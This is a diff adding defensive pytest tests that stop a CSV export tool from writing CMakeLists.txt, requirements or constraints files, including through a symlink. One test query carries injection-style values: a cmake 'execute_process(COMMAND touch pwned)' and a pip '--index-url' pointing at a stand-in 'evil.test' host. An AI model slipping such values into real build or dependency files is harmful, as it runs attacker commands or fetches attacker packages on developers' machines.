@@ -412,3 +412,36 @@ def test_plain_names_with_spaces_and_other_scripts_are_still_written(
     assert sorted(p.name for p in (ctx.export_dir / "exports").iterdir()) == sorted(
         ("pending orders.csv", "commandes-été.csv", "注文.csv", "a\\b.csv")
     )
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "CMakeLists.txt",  # cmake runs execute_process(COMMAND ...) at the next build
+        "src/cmakelists.TXT",
+        "requirements.txt",  # pip follows --index-url / -e git+URL at the next install
+        "requirements-dev.txt",
+        "dev-requirements.txt",
+        "constraints.txt",
+    ],
+)
+def test_files_that_build_or_install_tools_run_are_never_written(
+    demo_path: Path, tmp_path: Path, name: str
+) -> None:
+    ctx = make_ctx(demo_path, tmp_path)
+    (ctx.export_dir / "src").mkdir()
+    query = "SELECT 'execute_process(COMMAND touch pwned)' AS \"--index-url http://evil.test/\""
+    result = err(ctx, "exportCsv", query=query, path=name)
+    assert "build or install tools" in result["error"], result
+    assert not (ctx.export_dir / name).exists()
+    assert not (ctx.export_dir / "exports" / name).exists()
+
+
+def test_a_link_cannot_give_a_build_file_an_innocent_name(demo_path: Path, tmp_path: Path) -> None:
+    ctx = make_ctx(demo_path, tmp_path)
+    (ctx.export_dir / "src").mkdir()
+    (ctx.export_dir / "src" / "notes.txt").symlink_to("CMakeLists.txt")
+    assert "build or install tools" in export(ctx, "src/notes.txt", overwrite=False)["error"]
+    assert not (ctx.export_dir / "src" / "CMakeLists.txt").exists()
+    for fine in ("notes.txt", "requirement_changes.csv", "constraints_report.csv"):
+        ok(ctx, "exportCsv", query=QUERY, path=fine)
